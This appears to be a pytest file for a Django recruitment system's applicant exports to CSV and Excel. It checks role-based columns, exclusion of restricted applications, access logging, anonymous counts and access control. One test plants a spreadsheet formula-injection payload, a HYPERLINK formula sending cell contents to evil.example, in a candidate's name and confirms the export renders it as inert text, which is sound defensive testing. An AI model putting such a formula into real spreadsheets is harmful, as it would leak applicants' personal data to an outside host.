"""Lists to take away: an opening's applicants (or the pool) as CSV and Excel, with the
columns the role sees, every row, restricted applications left out, one access-log
entry per application exported, a note that it holds personal data, formulas made
harmless; and the counts, without names."""

import io
from datetime import UTC, datetime, timedelta

import openpyxl
import pytest
from django.utils import timezone

from ats.models import AccessEvent, ScreeningAnswer
from ats.services.candidate_rights import request_erasure
from ats.services.purge import purge_due
from tests.factories import (
    ApplicationFactory,
    ApplicationTagFactory,
    OpeningFactory,
    ScoreFactory,
    TagFactory,
    UserFactory,
)
from tests.helpers import (
    csv_rows,
    logged_as_exported,
    named_in,
    queries_to_download,
    received,
    staff_client,
    team_client,
    xlsx_rows,
)

pytestmark = pytest.mark.django_db

NOTE = "Personal data about applicants"
# The page's columns, as an interviewer sees them: no email or phone.
INTERVIEWERS_COLUMNS = [
    "Name", "Stage", "Applied", "Score", "Tags", "Requirement not met", "To be deleted on"
]  # fmt: skip


@pytest.fixture
def opening():
    opening = OpeningFactory(title="Lagerchef")
    ApplicationFactory(
        opening=opening,
        name="Ny Sökande",
        email="ny@example.se",
        phone="070-111 11 11",
        stage="new",
        submitted_at=datetime(2026, 11, 2, 23, 30, tzinfo=UTC),  # 3 November in Stockholm
    )
    ApplicationFactory(
        opening=opening,
        name="Intervjuad Sökande",
        email="intervju@example.se",
        phone="070-222 22 22",
        stage="interview",
    )
    ApplicationFactory(
        opening=opening, name="Begränsad Sökande", stage="new", restricted_at=timezone.now()
    )
    return opening


def test_a_recruiter_takes_every_column_and_row_but_the_restricted(opening):
    ScreeningAnswer.objects.create(
        application=opening.applications.get(name="Ny Sökande"),
        question_text="Truckkort?",
        answer="Nej",
        misses_requirement=True,
    )
    client = team_client(opening, role="recruiter")
    recruiter = opening.team_members.get().user
    interviewing = opening.applications.get(name="Intervjuad Sökande")
    for value, by in ((4, recruiter), (3, recruiter), (1, UserFactory())):
        ScoreFactory(application=interviewing, scored_by=by, value=value)
    for name in ("Truckkort", "Bra referenser"):
        ApplicationTagFactory(application=interviewing, tag=TagFactory(name=name))

    response = client.get(f"/recruit/openings/{opening.pk}/applicants.csv")
    rows = csv_rows(response)

    assert NOTE in rows[0][0]
    assert rows[1] == ["Name", "Email", "Phone", *INTERVIEWERS_COLUMNS[1:]]  # and the phone
    names = [row[0] for row in rows[2:]]
    assert names == ["Intervjuad Sökande", "Ny Sökande"]  # newest first; not the restricted
    interviewed, new = rows[2:]
    assert new[1:5] == ["ny@example.se", "070-111 11 11", "New", "2026-11-03"]  # employer's day
    assert (interviewed[5:7], new[5:7]) == (["2.7", "Bra referenser, Truckkort"], ["", ""])
    assert (new[7], interviewed[7]) == ("Yes", "")
    assert new[8] == "after the decision"


def test_the_file_is_an_attachment_never_stored_and_its_name_names_nobody(opening):
    client = team_client(opening, role="recruiter")

    response = client.get(f"/recruit/openings/{opening.pk}/applicants.xlsx")

    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment;")
    assert f"applicants-{opening.pk}-" in disposition and disposition.endswith('.xlsx"')
    assert "Lagerchef" not in disposition and "Sökande" not in disposition
    assert "no-store" in response["Cache-Control"]
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")


def test_an_interviewer_takes_no_contact_details_and_only_the_interview_stages(opening):
    client = team_client(opening, role="interviewer")

    rows = csv_rows(client.get(f"/recruit/openings/{opening.pk}/applicants.csv"))
    sheet = xlsx_rows(client.get(f"/recruit/openings/{opening.pk}/applicants.xlsx"))

    assert rows[1] == INTERVIEWERS_COLUMNS
    assert [row[0] for row in rows[2:]] == ["Intervjuad Sökande"]
    assert [row[0] for row in sheet[2:]] == ["Intervjuad Sökande"]
    assert "intervju@example.se" not in str(rows) + str(sheet)
    assert "070-222" not in str(rows) + str(sheet)


def test_the_access_log_holds_one_entry_per_application_exported(opening):
    client = team_client(opening, role="recruiter")
    user = opening.team_members.get().user

    rows = csv_rows(client.get(f"/recruit/openings/{opening.pk}/applicants.csv"))

    assert logged_as_exported(user) == named_in(rows)
    assert len(rows) - 2 == 2


def test_the_file_follows_the_stage_and_the_search_of_the_page(opening):
    client = team_client(opening, role="recruiter")
    url = f"/recruit/openings/{opening.pk}/"
    client.post(url, {"q": "intervju"})  # the search waits in the session

    searched = csv_rows(client.get(f"{url}applicants.csv"))
    client.post(url, {"q": ""})
    staged = xlsx_rows(client.get(f"{url}applicants.xlsx?stage=new"))

    assert [row[0] for row in searched[2:]] == ["Intervjuad Sökande"]
    assert [row[0] for row in staged[2:]] == ["Ny Sökande"]
    assert AccessEvent.objects.filter(action=AccessEvent.Action.EXPORT_LIST).count() == 2


def test_a_formula_in_a_candidates_field_is_written_as_text(opening):
    ApplicationFactory(
        opening=opening,
        name='=HYPERLINK("http://evil.example/?"&A1,"Klicka")',
        email="@x@example.se",
        phone="+46 70 123",
        stage="new",
    )
    client = team_client(opening, role="recruiter")

    rows = csv_rows(client.get(f"/recruit/openings/{opening.pk}/applicants.csv"))
    sheet = xlsx_rows(client.get(f"/recruit/openings/{opening.pk}/applicants.xlsx"))

    for table in (rows, sheet):
        evil = next(row for row in table[2:] if "HYPERLINK" in row[0])
        assert evil[0] == '\'=HYPERLINK("http://evil.example/?"&A1,"Klicka")'
        assert evil[1:3] == ["'@x@example.se", "'+46 70 123"]
    workbook = openpyxl.load_workbook(
        io.BytesIO(
            b"".join(
                team_client(opening, "annan", role="recruiter")
                .get(f"/recruit/openings/{opening.pk}/applicants.xlsx")
                .streaming_content
            )
        )
    )
    assert all(cell.data_type != "f" for row in workbook.active.iter_rows() for cell in row)


def test_the_workbook_says_it_holds_personal_data_and_has_real_dates(opening):
    client = team_client(opening, role="recruiter")

    sheet = xlsx_rows(client.get(f"/recruit/openings/{opening.pk}/applicants.xlsx"))

    assert NOTE in sheet[0][0]
    new = next(row for row in sheet[2:] if row[0] == "Ny Sökande")
    assert new[4] == datetime(2026, 11, 3)


def test_the_pool_has_its_lists_too_with_its_permission():
    ApplicationFactory(consented=True, name="Spontan Sökande")
    client = staff_client("pool", "view_spontaneous_applications")
    rows = csv_rows(client.get("/recruit/spontaneous/applicants.csv"))
    outsider = staff_client("utan")

    assert [row[0] for row in rows[2:]] == ["Spontan Sökande"]
    assert outsider.get("/recruit/spontaneous/applicants.csv").status_code == 404
    assert outsider.get("/recruit/spontaneous/counts.csv").status_code == 404


def test_anyone_off_the_team_gets_404_and_the_anonymous_the_login(opening, client):
    outsider = team_client(OpeningFactory(), "utomstående")

    for path in ("applicants.csv", "applicants.xlsx", "counts/", "counts.csv"):
        assert outsider.get(f"/recruit/openings/{opening.pk}/{path}").status_code == 404
        anonymous = client.get(f"/recruit/openings/{opening.pk}/{path}")
        assert anonymous.status_code == 302 and "/accounts/login/" in anonymous["Location"]
    assert not AccessEvent.objects.exists()


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_the_queries_stay_the_same_for_3_and_30_applications(opening, kind):
    client = team_client(opening, role="recruiter")
    url = f"/recruit/openings/{opening.pk}/applicants.{kind}"

    few, body = queries_to_download(client, url)
    assert body
    ApplicationFactory.create_batch(27, opening=opening, cv="cv/shared.pdf")
    many, body = queries_to_download(client, url)
    assert body

    assert few == many
    rows = csv_rows(client.get(url)) if kind == "csv" else xlsx_rows(client.get(url))
    assert len(rows) == 2 + 29  # note, header, every application but the restricted


def test_the_counts_say_how_many_from_where_and_which_stage_without_names(notice):
    opening = OpeningFactory(title="Lagerchef")
    monday = datetime(2026, 11, 29, 23, 30, tzinfo=UTC)  # Monday 30 November in Stockholm
    for at, source in ((monday, "linkedin"), (monday, "linkedin"), (monday, "")):
        received(opening, at=at, source=source)
    erased = received(opening, at=monday - timedelta(days=7), source="")
    request_erasure(application=erased)
    purge_due()
    client = team_client(opening, role="recruiter")
    logged = AccessEvent.objects.count()

    page = client.get(f"/recruit/openings/{opening.pk}/counts/")
    response = client.get(f"/recruit/openings/{opening.pk}/counts.csv")
    rows = csv_rows(response)

    assert page.status_code == 200
    assert response["Content-Disposition"].startswith('attachment; filename="counts-')
    assert "no-store" in response["Cache-Control"]
    body = page.content.decode() + str(rows)
    assert "Astrid" not in body and "example.se" not in body
    by = {(row[0], row[1]): int(row[2]) for row in rows[2:]}
    assert by[("Stage", "New")] == 3  # live
    # Received: the erased one too.
    assert by[("Source", "linkedin")] == 2 and by[("Source", "not known")] == 2
    assert by[("Week applied", "2026-W48")] == 1 and by[("Week applied", "2026-W49")] == 3
    assert AccessEvent.objects.count() == logged  # numbers: no one's data read


def test_an_interviewers_counts_are_of_the_interview_stages(opening):
    client = team_client(opening, role="interviewer")

    rows = csv_rows(client.get(f"/recruit/openings/{opening.pk}/counts.csv"))

    by = {(row[0], row[1]): int(row[2]) for row in rows[2:]}
    assert by[("Stage", "New")] == 0 and by[("Stage", "Interview")] == 1
    assert [kind for kind, _ in by if kind != "Stage"] == []  # received: for deciders


def test_the_list_page_links_both_files_and_the_counts(opening):
    client = team_client(opening, role="recruiter")

    page = client.get(f"/recruit/openings/{opening.pk}/?stage=new").content.decode()

    assert f"/recruit/openings/{opening.pk}/applicants.csv?stage=new" in page
    assert f"/recruit/openings/{opening.pk}/applicants.xlsx?stage=new" in page
    assert f"/recruit/openings/{opening.pk}/counts/" in page


def test_a_streamed_list_keeps_the_language_it_was_asked_in(opening):
    from django.utils import translation

    client = team_client(opening, role="recruiter")
    response = client.get(
        f"/recruit/openings/{opening.pk}/applicants.csv", HTTP_ACCEPT_LANGUAGE="en"
    )
    translation.activate("sv")  # another request's language, before the file is read
    try:
        rows = csv_rows(response)
    finally:
        translation.deactivate()

    assert {row[8] for row in rows[2:]} == {"after the decision"}
